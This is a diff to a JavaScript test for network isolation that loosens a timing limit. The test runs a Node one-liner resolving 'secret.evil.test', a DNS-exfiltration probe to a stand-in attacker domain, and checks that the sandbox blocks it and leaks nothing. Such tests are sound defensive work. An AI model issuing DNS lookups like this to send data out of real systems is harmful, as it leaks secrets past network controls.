@@ -302,7 +302,8 @@ describe.runIf(canUnshare)('real clients', () => {
       "require('dns').resolve4('secret.evil.test', (e) => console.log(e.code))",
     ])
     expect(stdout).toBe('ENOTFOUND\n')
-    expect(Date.now() - started).toBeLessThan(2_000)
+    // A resolver that is not answered asks again after five seconds.
+    expect(Date.now() - started).toBeLessThan(4_500)
     expect(internet.output()).not.toContain('secret')
   })
 
